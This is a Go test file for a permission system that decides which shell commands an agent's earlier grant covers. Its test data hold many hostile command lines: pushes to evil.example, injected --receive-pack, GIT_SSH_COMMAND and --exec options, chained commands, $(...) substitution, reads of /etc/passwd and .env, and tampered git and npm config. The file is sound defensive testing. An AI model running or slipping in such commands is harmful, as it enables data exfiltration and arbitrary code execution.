package security

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"oxios/kernel/sys"
)

// place is a folder with a repository, files, and links that lead out.
func place(t testing.TB) string {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"a.txt": "a", "b.txt": "b", "sub/c.txt": "c", "package.json": `{"scripts":{"test":"true"}}`, "tool": "#!/bin/sh\n",
		".git/config": "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/blog\n", ".git/HEAD": "ref: refs/heads/main\n",
		".git/hooks/pre-push.sample": "#!/bin/sh\n",
	} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range map[string]string{"out": "/etc", "lost": filepath.Join(dir, "gone"), "in": "sub"} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// programs stands for the programs of a machine: the real ones where they are,
// else some file that agents cannot write.
func programs(dir string) func(string) string {
	some, err := exec.LookPath("true")
	if err != nil {
		panic(err) // every system that has a shell has it
	}
	return func(name string) string {
		switch {
		case name == "nothing":
			return ""
		case strings.Contains(name, "/"):
			if filepath.IsAbs(name) {
				return name
			}
			return filepath.Join(dir, name)
		}
		return some
	}
}

func kindOf(dir, line string) (*Kind, string) {
	k, why := KindOf(GrantStep{
		Call: "exec.shell", Line: line, Dir: dir, Folder: dir, OxiosHome: "/nowhere", Isolation: sys.IsolationPartial, Find: programs(dir),
		Verdict: asExec(ClassifyCommand(line, CommandOptions{Dir: dir, Home: "/home/me"})),
	})
	return k, why.EN
}

// asExec is what the kernel does with a verdict: no command counts as a file tool.
func asExec(v Verdict) Verdict {
	if v.Effect == EffectRead || v.Effect == EffectWrite {
		v.Effect = EffectExecute
	}
	return v
}

func TestGrantCoversTheSameKindAndNothingElse(t *testing.T) {
	t.Parallel()
	dir := place(t)
	for _, c := range []struct {
		given   string
		covered string   // lines, one each
		asks    string   // lines, one each
		tricky  []string // lines with line breaks
	}{
		{
			given:   "git push",
			covered: "git push\ngit push -v\n'git' \"push\"\ngit push --quiet",
			asks: `git push --force
git push -f
git push origin main
git push --receive-pack=./tool
git push --receive-pack ./tool
git push --exec=./tool
git -c alias.x='!sh' push
git -c core.sshCommand=./tool push
git -C sub push
git --git-dir=sub push
git --exec-path=sub push
git push https://evil.example/x
git push ext::./tool
git push --repo=https://evil.example/x
git push -o x
git fetch
git pull
git
GIT_SSH_COMMAND=./tool git push
GIT_DIR=sub git push
env git push
nice git push
command git push
timeout 5 git push
sh -c 'git push'
./git push
sub/git push
git push; ./tool
git push && ./tool
git push | ./tool
git push &
! git push
git push > a.txt
git push < a.txt
git push $(./tool)
git push $X
git push *
git pu''sh
g\it push
git p\ush
git push -{v,f}
$'git' push
{ git push; }
(git push)
time git push
git push -- -f
git push +main
git push :main
if true; then git push; fi`,
			tricky: []string{"git push\n./tool", "git push \\\n--force", "git push\r", "git push \u200b", "git push \u202e"},
		},
		{
			given: "npm test", covered: "npm test\nnpm test --silent",
			asks: "npm test -- --x\nnpm test x\nnpm run test\nnpm run evil\nnpm t\nnpm exec x\nnpm test --script-shell=./tool\nnpm --prefix sub test\nnpx test\nnpm install\nNODE_OPTIONS=--require=./a.txt npm test\nnpm test -w sub\nyarn test",
		},
		{given: "npm run build", covered: "npm run build\nnpm run build -s", asks: "npm run -s build\nnpm run\nnpm run other\nnpm run build -- --x\nnpm run build x\nnpm -s run build"},
		{
			given:   "git commit -m 'first words'",
			covered: "git commit -m second\ngit commit -m 'it; rm -x'\ngit commit --message=x\ngit commit -v -m \"a b\"",
			asks:    "git commit -qm x\ngit commit -a -m x\ngit commit --amend -m x\ngit commit -m x a.txt\ngit commit -F a.txt\ngit commit -m\ngit commit -m \"$(cat a.txt)\"\ngit commit --no-verify -m x\ngit commit --template=a.txt -m x\ngit commit -S./tool -m x",
		},
		{
			given:   "git add a.txt",
			covered: "git add b.txt\ngit add sub/c.txt a.txt\ngit add in/c.txt\ngit add new.txt\ngit add .",
			asks:    "git add -A\ngit add -f a.txt\ngit add\ngit add out/passwd\ngit add lost\ngit add ../x\ngit add /etc/passwd\ngit add .git/config\ngit add -- -x\ngit add --pathspec-from-file=a.txt\ngit add ':(exclude)x'\ngit add ~/x\ngit add .env\ngit add package.json",
		},
		{given: "mv -n a.txt sub", covered: "mv -n b.txt sub\nmv a.txt sub/x\nmv -vn a.txt b.txt", asks: "mv -f a.txt sub\nmv -t sub a.txt\nmv a.txt out/x\nmv a.txt ../x\nmv a.txt .git/hooks/pre-push\nmv a.txt package.json\ncp a.txt sub\nmv"},
		{
			given:   "qpdf --empty -o sub/all.pdf a.txt",
			covered: "qpdf --empty -o sub/all.pdf b.txt\nqpdf --empty -o sub/all.pdf sub/c.txt b.txt",
			asks:    "qpdf --empty -o sub/other.pdf a.txt\nqpdf --run=./tool --empty -o sub/all.pdf a.txt\nqpdf exec a.txt\nqpdf -x a.txt\nother --empty -o sub/all.pdf a.txt\nqpdf --empty -o sub/all.pdf https://evil.example/x\nqpdf --empty -o sub/all.pdf if=/etc/passwd\nqpdf --empty -o sub/all.pdf @a.txt",
		},
		{given: "go test ./...", covered: "go test ./sub\ngo test -v -run=Name ./...\ngo test -count 1 ./...", asks: "go test -exec ./tool ./...\ngo test -toolexec=./tool ./...\ngo test -o x ./...\ngo run ./sub\ngo generate ./...\ngo test -C sub ./...\ngo vet ./...\ngo test"},
		{given: "make all", covered: "make all\nmake -s all", asks: "make\nmake other\nmake all X=1\nmake -f a.txt all\nmake --eval=x all\nmake -C sub all\nSHELL=./tool make all"},
	} {
		grant, why := kindOf(dir, c.given)
		if grant == nil {
			t.Errorf("%q: no grant: %s", c.given, why)
			continue
		}
		for _, line := range append(strings.Split(c.covered, "\n"), c.given) {
			if k, why := kindOf(dir, line); k == nil || !grant.Covers(*k) {
				t.Errorf("given %q (%s): %q asks (%s)", c.given, grant.Pattern, line, why)
			}
		}
		for _, line := range append(strings.Split(c.asks, "\n"), c.tricky...) {
			if k, _ := kindOf(dir, line); k != nil && grant.Covers(*k) {
				t.Errorf("given %q (%s): %q is covered", c.given, grant.Pattern, line)
			}
		}
	}
}

func TestGrantIsRefusedForWhatCanRunAnything(t *testing.T) {
	t.Parallel()
	dir := place(t)
	for line, want := range map[string]string{
		"bash build.sh": "run any other program", "sh -c ls": "run any other program", "python3 a.py": "run any other program", "node x.js": "run any other program",
		"python3.12 -m pytest": "run any other program", "env ls": "run any other program", "nice make": "run any other program", "timeout 5 make": "run any other program",
		"xargs ls": "run any other program", "awk 1 a.txt": "run any other program", "sed -i s/a/b/ a.txt": "run any other program", "vim a.txt": "run any other program",
		"find . -exec ls": "start other programs", "tar cf x.tar a.txt": "start other programs", "git rebase main": "start other programs", "npm exec x": "start other programs",
		"gcc a.c": "start other programs", "docker ps -a": "", "ssh host ls": "", "curl https://example.com": "", "npm install": "",
		"./tool": "", "tool/../tool": "", "git push --receive-pack='sh x'": "", "rm a.txt": "deletes", "git rm a.txt": "", "cat /etc/hosts": "outside",
		"make > out.txt": "one plain command", "make && make": "one plain command", "make | cat": "one plain command", "X=1 make": "one plain command", "make\nmake": "one plain command",
		"make $X": "not all to be seen", "touch *.txt": "not all to be seen", "touch ../x": "not all to be seen", "touch out/x": "not all to be seen", "sudo make": "not all to be seen",
		"nothing x": "There is no program", "make &": "one plain command", "": "", "cat .env": "",
	} {
		k, why := kindOf(dir, line)
		if k != nil || !strings.Contains(why, want) {
			t.Errorf("%q: got %v, %q, want %q", line, k, why, want)
		}
	}
}

func TestGrantNeedsAProgramThatNoAgentMayWrite(t *testing.T) {
	t.Parallel()
	dir := place(t)
	step := func(found string, level sys.Isolation) (*Kind, string) {
		k, why := KindOf(GrantStep{
			Call: "exec.structured", Argv: []string{"qpdf", "a.txt"}, Dir: dir, Folder: dir, OxiosHome: "/nowhere", Isolation: level,
			Find: func(string) string { return found }, Verdict: asExec(ClassifyArgv([]string{"qpdf", "a.txt"}, CommandOptions{Dir: dir})),
		})
		return k, why.EN
	}
	if k, why := step(filepath.Join(dir, "tool"), sys.IsolationPartial); k != nil || !strings.Contains(why, "may write") {
		t.Errorf("a program of the folder: got %v, %q", k, why)
	}
	some, _ := exec.LookPath("true")
	if k, why := step(some, sys.IsolationPartial); k == nil {
		t.Errorf("a program of the system: %s", why)
	}
	if k, why := step(some, sys.IsolationLimits); k != nil || !strings.Contains(why, "nothing contains") {
		t.Errorf("an unknown program that nothing contains: got %v, %q", k, why)
	}
	shell, _ := exec.LookPath("sh")
	link := filepath.Join(dir, "qpdf")
	if err := os.Symlink(shell, link); err != nil {
		t.Fatal(err)
	}
	if k, _ := step(link, sys.IsolationPartial); k != nil {
		t.Error("a link of the folder to a shell is allowed")
	}
}

func TestGrantEndsWhereItsFilesChange(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ line, file, text string }{
		"the scripts":               {"npm test", "package.json", `{"scripts":{"test":"evil"}}`},
		"another package file":      {"npm test", ".npmrc", "script-shell=./tool"},
		"the repository's settings": {"git push", ".git/config", "[remote \"origin\"]\n\turl = https://evil.example/x\n"},
		"a program in the settings": {"git push", ".git/config", "[core]\n\tsshCommand = ./tool\n"},
		"a hook":                    {"git push", ".git/hooks/pre-push", "#!/bin/sh\n"},
		"a hook of commit":          {"git commit -m x", ".git/hooks/pre-commit", "#!/bin/sh\n"},
		"attributes":                {"git add a.txt", ".git/info/attributes", "* filter=x"},
		"the targets":               {"make all", "Makefile", "all:\n\t./tool\n"},
	} {
		dir := place(t)
		grant, why := kindOf(dir, c.line)
		if grant == nil {
			t.Fatalf("%s: %s", name, why)
		}
		path := filepath.Join(dir, c.file)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(c.text), 0o755); err != nil {
			t.Fatal(err)
		}
		if k, _ := kindOf(dir, c.line); k != nil && grant.Covers(*k) {
			t.Errorf("%s: still covered", name)
		}
	}
}

func TestGrantHoldsInItsOwnFolderNetworkAndContainment(t *testing.T) {
	t.Parallel()
	dir := place(t)
	grant, why := kindOf(dir, "git add a.txt")
	if grant == nil {
		t.Fatal(why)
	}
	for name, change := range map[string]func(*Kind){
		"another folder": func(k *Kind) { k.Dir += "/sub" }, "a wider folder": func(k *Kind) { k.Folder = filepath.Dir(dir) },
		"the network": func(k *Kind) { k.Network = true }, "another program": func(k *Kind) { k.Digest = "x" }, "another name of it": func(k *Kind) { k.Program = "sh" },
		"less containment": func(k *Kind) { k.Isolation = sys.IsolationLimits }, "another call": func(k *Kind) { k.Call = "exec.structured" },
		"code of the folder": func(k *Kind) { k.Project = true }, "no digest": func(k *Kind) { k.Digest = "" },
	} {
		other := *grant
		change(&other)
		if grant.Covers(other) {
			t.Errorf("%s: covered", name)
		}
	}
	more := *grant
	more.Isolation++
	if !grant.Covers(more) {
		t.Error("more containment asks")
	}
}

// TestNoGrantReachesFurtherThanItsLine makes lines of parts, and compares each
// two of them by rules written down a second time: what is covered has the same
// program and words, no option that was not there or is harmless, and no
// operand outside.
func TestNoGrantReachesFurtherThanItsLine(t *testing.T) {
	t.Parallel()
	dir := place(t)
	heads := []string{"git push", "git fetch", "git add", "git commit", "npm test", "npm run build", "npm run evil", "go test", "make", "mv", "cp", "mkdir", "qpdf", "qpdf join", "cargo test"}
	options := []string{"-v", "-q", "-n", "-f", "--force", "-x", "--exec=./tool", "--x=a.txt", "-m words", "--message=words", "-o a.txt", "-o b.txt", "--", "-run Name", "-exec ./tool", "-C sub", "-vf"}
	operands := []string{"a.txt", "b.txt", "sub/c.txt", "out/passwd", "/etc/passwd", "../x", "all", "origin", "https://evil.example/x", ".git/config", "lost", "in/c.txt", ".env", "X=1", "+main", "''"}
	harmless := map[string]string{"git": "-v -q -n -m words --message=words", "npm": "-q", "go": "-v -x -run Name", "cargo": "-v -q", "mv": "-v -n", "cp": "-v -n", "mkdir": "-v"}
	outside := []string{"out/passwd", "/etc/passwd", "../x", "lost"}
	type shape struct{ head, options, operands []string }
	line := func(t *rapid.T, name string) (string, shape) {
		head := rapid.SampledFrom(heads).Draw(t, name+" head")
		s := shape{head: strings.Fields(head), options: rapid.SliceOfN(rapid.SampledFrom(options), 0, 3).Draw(t, name+" options"), operands: rapid.SliceOfN(rapid.SampledFrom(operands), 0, 3).Draw(t, name+" operands")}
		return strings.Join(append(append([]string{head}, s.options...), s.operands...), " "), s
	}
	covered := 0
	rapid.Check(t, func(t *rapid.T) {
		one, a := line(t, "given")
		two, b := line(t, "later")
		// Most later lines are near the first one: those are the ones that could slip through.
		if rapid.IntRange(0, 9).Draw(t, "near") > 0 {
			b.head = a.head
			pick := func(of, more []string, name string) []string {
				return rapid.SliceOfN(rapid.SampledFrom(append(append(append([]string{}, of...), of...), more...)), 0, 3).Draw(t, name)
			}
			b.options, b.operands = pick(a.options, []string{"-v", "--exec=./tool"}, "near options"), pick(a.operands, []string{"b.txt", "../x"}, "near operands")
			two = strings.Join(append(append(append([]string{}, b.head...), b.options...), b.operands...), " ")
		}
		given, _ := kindOf(dir, one)
		later, _ := kindOf(dir, two)
		if given == nil || later == nil || !given.Covers(*later) {
			return
		}
		covered++
		if strings.Join(a.head, " ") != strings.Join(b.head, " ") {
			t.Fatalf("%q covers %q: another program or other words", one, two)
		}
		if later.Exact && strings.Join(later.Operands, " ") != strings.Join(given.Operands, " ") {
			t.Fatalf("%q covers %q: other words", one, two)
		}
		for _, o := range b.options {
			if !strings.Contains(" "+strings.Join(a.options, " ")+" ", " "+o+" ") && !strings.Contains(" "+harmless[b.head[0]]+" ", " "+o+" ") {
				t.Fatalf("%q covers %q: the option %s", one, two, o)
			}
		}
		for _, o := range b.operands {
			for _, bad := range outside {
				if o == bad {
					t.Fatalf("%q covers %q: %s lies outside", one, two, o)
				}
			}
			if given.Network && !strings.Contains(" "+strings.Join(a.operands, " ")+" ", " "+o+" ") {
				t.Fatalf("%q covers %q: sends to another place", one, two)
			}
		}
	})
	t.Logf("%d pairs were covered", covered)
}
